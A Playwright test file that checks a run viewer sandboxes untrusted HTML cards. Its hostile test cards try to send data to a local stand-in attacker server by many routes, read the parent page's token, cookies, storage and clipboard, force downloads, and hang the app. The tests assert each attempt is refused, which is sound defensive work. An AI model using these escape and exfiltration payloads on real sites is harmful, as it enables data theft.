import { once } from 'node:events'
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Frame, Page } from '@playwright/test'
import { makeRun } from '../support/make-datastore.ts'
import { expect, grid, openApp, rows, test as base } from './fixtures.ts'

/** Somebody else's machine: notes who connects, also who then says nothing, and what is said. */
interface Evil {
  readonly port: number
  readonly heard: string[]
}

const RUN_ID = '1792490401276925'

const test = base.extend<{ evil: Evil; openCard: (html: string) => Promise<Frame> }>({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the pattern.
  evil: async ({}, provide) => {
    const heard: string[] = []
    const server: Server = createServer((socket) => {
      heard.push('a connection')
      socket.on('data', (bytes) => heard.push(bytes.toString('latin1').split('\r\n')[0] ?? ''))
      socket.on('error', () => undefined)
      setTimeout(() => socket.destroy(), 200)
    })
    server.listen(0, '127.0.0.1')
    await once(server, 'listening')
    const address = server.address()
    if (address === null || typeof address === 'string') throw new Error('no port')
    await provide({ port: address.port, heard })
    server.close()
  },

  // What a card is refused is said in the console, and is no fault of the page.
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the pattern.
  problems: async ({}, provide) => provide([]),

  /** Opens the app on a datastore whose one run has this card, and gives its frame once its page has loaded. */
  openCard: async ({ page, startApp }, provide) => {
    const folder = await mkdtemp(join(tmpdir(), 'tagalong-cards-'))
    await provide(async (html) => {
      const root = join(folder, '.metaflow')
      await makeRun(root, { flow: 'TrainFlow', runId: RUN_ID, tags: ['judged'] })
      const cards = join(root, 'mf.cards/TrainFlow/runs', RUN_ID, 'steps/end/tasks/2/cards')
      await mkdir(cards, { recursive: true })
      await writeFile(join(cards, `hostile-${'a'.repeat(32)}.html`), html)
      const { url } = await startApp([`--source=${folder}`])
      await openApp(page, url)
      return await cardFrame(page)
    })
    await rm(folder, { recursive: true, force: true })
  },
})

async function cardFrame(page: Page): Promise<Frame> {
  const frame = await (await page.waitForSelector('iframe.card-body')).contentFrame()
  if (frame === null) throw new Error('the card has no frame')
  return frame
}

/** The app answers keys and keeps its place. */
async function expectAppAlive(page: Page, tag: string): Promise<void> {
  await grid(page).focus()
  await page.keyboard.press('t')
  await page.keyboard.type(tag)
  await page.keyboard.press('Enter')
  await expect(grid(page).locator('.tag', { hasText: tag })).toHaveCount(1)
  await page.keyboard.press('Escape')
}

/** Runs `attempts`, each an async function of the card, and collects what came of them in `window.results`. */
const attacking = (attempts: Readonly<Record<string, string>>): string => `<!doctype html><body><h1>Card</h1><script>
  window.results = {}
  const attempts = { ${Object.entries(attempts)
    .map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`)
    .join(',\n')} }
  Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
    const late = new Promise((resolve) => setTimeout(() => resolve('nothing came of it'), 1500))
    try { results[name] = String(await Promise.race([attempt(), late])) } catch (error) { results[name] = 'refused: ' + error.name }
  })).then(() => { document.body.dataset.done = 'yes' })
</script>`

/** An attempt that writes elements into the card. */
const element = (html: string): string => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)}); return 'written'`

const resultsOf = async (frame: Frame): Promise<Record<string, string>> => {
  await frame.waitForSelector('body[data-done]', { timeout: 15_000 })
  return await frame.evaluate<Record<string, string>>('results')
}

test('[SHL12] a card draws itself: inline styles, inline scripts and pictures that it brought along', async ({ openCard }) => {
  const frame = await openCard(`<!doctype html><style>h1 { color: rgb(1, 2, 3) }</style><h1 style="margin-left: 7px">Loss</h1>
    <img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=">
    <script>document.querySelector('h1').textContent = 'Loss 0.1'</script>`)
  await expect(frame.getByRole('heading', { name: 'Loss 0.1' })).toBeVisible()
  const heading = await frame.evaluate(() => {
    const style = getComputedStyle(document.querySelector('h1')!)
    return [style.color, style.marginLeft, document.querySelector('img')!.naturalWidth]
  })
  expect(heading).toEqual(['rgb(1, 2, 3)', '7px', 1])
})

test('[SHL12] a card reaches no network: neither by scripts, nor by elements, nor by leading its frame away', async ({
  openCard,
  evil,
  page,
}) => {
  const there = `http://127.0.0.1:${evil.port}`
  const frame = await openCard(
    attacking({
      fetch: `return (await fetch('${there}/fetch')).status`,
      'fetch home': `return (await fetch(location.origin + '/')).status`,
      'fetch no-cors': `return (await fetch('${there}/no-cors', { mode: 'no-cors' })).type`,
      xhr: `return new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = () => resolve(1); x.onerror = () => reject(new TypeError()); x.open('GET', '${there}/xhr'); x.send() })`,
      beacon: `navigator.sendBeacon('${there}/beacon', 'x'); return 'tried'`,
      websocket: `return new Promise((resolve, reject) => { const s = new WebSocket('ws://127.0.0.1:${evil.port}/ws'); s.onopen = resolve; s.onerror = () => reject(new TypeError()) })`,
      events: `return new Promise((resolve, reject) => { const s = new EventSource('${there}/sse'); s.onopen = resolve; s.onerror = () => reject(new TypeError()) })`,
      webrtc: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:127.0.0.1:${evil.port}?transport=tcp', username: 'u', credential: 'c' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise((r) => setTimeout(r, 800)); return 'tried'`,
      worker: `return new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => resolve('works'); w.onerror = () => reject(new TypeError()) })`,
      import: `return await import('${there}/module.js')`,
      image: element(`<img src="${there}/img">`),
      style: element(
        `<link rel="stylesheet" href="${there}/css"><style>@import '${there}/import'; body { background: url(${there}/bg) }</style>`,
      ),
      font: element(`<style>@font-face { font-family: x; src: url(${there}/font) } i { font-family: x }</style><i>x</i>`),
      frame: element(`<iframe src="${there}/frame"></iframe><object data="${there}/object"></object><embed src="${there}/embed">`),
      media: element(`<video src="${there}/video" autoplay></video><audio src="${there}/audio" autoplay></audio>`),
      hints: element(`<link rel="prefetch" href="${there}/prefetch"><link rel="preload" as="image" href="${there}/preload">`),
      speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${there}/speculated'] }] }); document.body.append(s); return 'written'`,
      form: `document.body.insertAdjacentHTML('beforeend', '<form method="post" action="${there}/form"><input name="a" value="b"></form>'); document.querySelector('form').submit(); return 'tried'`,
    }),
  )
  const results = await resultsOf(frame)
  for (const name of ['fetch', 'fetch home', 'fetch no-cors', 'xhr', 'websocket', 'events', 'worker', 'import']) {
    expect([name, results[name]]).toEqual([name, expect.stringMatching(/^refused/)])
  }
  // Last, for it takes the scripts away: the frame itself may go nowhere.
  await frame.evaluate((url) => {
    document.body.insertAdjacentHTML('beforeend', `<a href="${url}" ping="${url}">x</a>`)
    document.querySelector('a')!.click()
    location.href = url
  }, `${there}/navigated?secret`)
  await page.waitForTimeout(500)
  expect(evil.heard).toEqual([])
  await expectAppAlive(page, 'still here')
})

test('[SHL12] a page that sends its frame on by itself arrives nowhere', async ({ openCard, evil, page }) => {
  await openCard(`<meta http-equiv="refresh" content="0;url=http://127.0.0.1:${evil.port}/refresh"><h1>Going</h1>`)
  await page.waitForTimeout(1000)
  expect(evil.heard).toEqual([])
  await expectAppAlive(page, 'still here')
})

test('[SHL13] a card knows nothing of the page around it, keeps nothing, opens nothing', async ({ openCard, page }) => {
  const pages: string[] = []
  page.context().on('page', (opened) => pages.push(opened.url()))
  const downloads: string[] = []
  page.on('download', (download) => downloads.push(download.url()))
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const before = page.url()
  const frame = await openCard(
    attacking({
      parent: `return parent.document.title`,
      bridge: `return parent.tagalong ?? 'none'`,
      token: `return parent.document.querySelector('meta[name=tagalong-token]').content`,
      top: `top.location = 'http://127.0.0.1:1/'; return 'tried'`,
      local: `return localStorage.length`,
      session: `return sessionStorage.length`,
      cookie: `return document.cookie`,
      database: `return await new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = () => resolve('opened'); r.onerror = () => reject(r.error) })`,
      caches: `return await caches.open('x')`,
      'service worker': `return await navigator.serviceWorker.register('/sw.js')`,
      shared: `return new SharedWorker('/assets/worker.js').port`,
      channel: `new BroadcastChannel('tagalong').postMessage('x'); return 'tried'`,
      popup: `return window.open('http://127.0.0.1:1/') === null ? 'none' : 'opened'`,
      download: `const a = document.createElement('a'); a.href = 'data:application/octet-stream,x'; a.download = 'x.exe'; document.body.append(a); a.click(); return 'tried'`,
      alert: `alert('Your tags are lost'); return 'tried'`,
      clipboard: `return await navigator.clipboard.readText()`,
      again: `return (await fetch(location.href)).status`,
      origin: `return self.origin`,
    }),
  )
  const results = await resultsOf(frame)
  for (const name of [
    'parent',
    'bridge',
    'token',
    'top',
    'local',
    'session',
    'cookie',
    'database',
    'caches',
    'shared',
    'clipboard',
    'again',
  ]) {
    expect([name, results[name]]).toEqual([name, expect.stringMatching(/^refused/)])
  }
  expect(results['service worker']).toMatch(/^refused/)
  expect(results).toMatchObject({ popup: 'none', origin: 'null' })
  expect([pages, downloads, dialogs]).toEqual([[], [], []])
  expect(new URL(page.url()).origin).toBe(new URL(before === 'about:blank' ? page.url() : before).origin)

  // The address that the card sees gives nothing any more.
  const address = await frame.evaluate(() => location.href)
  expect(await page.evaluate(async (url) => (await fetch(url)).status, address)).toBe(404)
  await expectAppAlive(page, 'still here')
})

test('[SHL14] a card that floods, grows without end or never stops does not hold up the app', async ({ openCard, page }) => {
  await openCard(`<!doctype html><h1>Busy</h1><script>
    for (let i = 0; i < 50000; i++) parent.postMessage({ kind: 'call', method: 'closeSource', args: ['x'] }, '*')
    const text = '<p>' + 'x'.repeat(50) + '</p>'
    document.body.insertAdjacentHTML('beforeend', text.repeat(100000))
    setTimeout(() => { for (;;); }, 300)
  </script>`)
  await page.waitForTimeout(600)
  await expectAppAlive(page, 'while it spins')
  // Closing the pane ends it.
  await page.keyboard.press('Escape')
  await expect(page.locator('iframe.card-body')).toHaveCount(0)
  await expect(rows(page)).toHaveCount(1)
})

/** Says what keys it was given. */
const TAKES_FOCUS = `<!doctype html><input autofocus><script>
  window.keys = ''
  document.addEventListener('keydown', ({ key }) => { keys += key })
  document.addEventListener('mousemove', () => { window.isPointed = true })
  const take = () => { window.focus(); document.querySelector('input').focus() }
  take()
</script>`

test('[SHL15] a card takes no key from the list, and has the focus from a person: by the pointer, by Tab', async ({ openCard, page }) => {
  const frame = await openCard(TAKES_FOCUS)
  const card = page.locator('iframe.card-body')
  const focused = grid(page).locator('.run-row.is-focused')
  /** The card takes the focus, and the window has it back. */
  const taken = async (): Promise<void> => {
    await page.evaluate('void (window.back = new Promise((done) => window.addEventListener("focus", () => done(), { once: true })))')
    await frame.evaluate('take()')
    await page.evaluate('back')
    await expect(focused).toBeFocused()
  }
  await page.keyboard.press('Home')
  await expect(focused).toBeFocused()
  await page.keyboard.press('x')
  await expect(page.locator('.run-row[aria-selected=true]')).toHaveCount(1)
  await taken()
  await page.keyboard.press('x')
  await expect(page.locator('.run-row[aria-selected=true]')).toHaveCount(0)
  expect(await frame.evaluate('keys')).toBe('')

  // Where the pointer rests is the window's while keys are used, the card's once it moves.
  const box = (await card.boundingBox())!
  await page.mouse.move(box.x + 100, box.y + 50)
  await page.keyboard.press('x')
  await taken()
  await page.keyboard.press('x')
  expect(await frame.evaluate('keys')).toBe('')
  await expect
    .poll(async () => {
      await page.mouse.move(box.x + 100, box.y + 60)
      await page.mouse.move(box.x + 100, box.y + 50)
      return await frame.evaluate('window.isPointed')
    })
    .toBe(true)
  await page.mouse.down()
  await page.mouse.up()
  await expect(card).toBeFocused()
  await expect.poll(() => frame.evaluate('document.hasFocus()')).toBe(true)
  await page.keyboard.press('q')
  await expect.poll(() => frame.evaluate('keys')).toBe('q')

  await page.getByRole('button', { name: 'Card over the whole window' }).first().focus()
  await expect.poll(() => frame.evaluate('document.hasFocus()')).toBe(false)
  await page.mouse.move(10, 10)
  await page.keyboard.press('Tab')
  await expect(card).toBeFocused()
  await expect.poll(() => frame.evaluate('document.hasFocus()')).toBe(true)
  await page.keyboard.press('w')
  await expect.poll(() => frame.evaluate('keys')).toMatch(/w$/)
})

test('[SHL15] a card that does not leave off taking the focus is stopped', async ({ openCard, page }) => {
  await openCard(`${TAKES_FOCUS}<script>setInterval(take, 20)</script>`)
  await expect(page.getByText('This card kept taking the keyboard for itself and was stopped.')).toBeVisible()
  await expect(page.locator('iframe.card-body')).toHaveCount(0)
  await page.keyboard.press('x')
  await expect(page.locator('.run-row[aria-selected=true]')).toHaveCount(1)
})
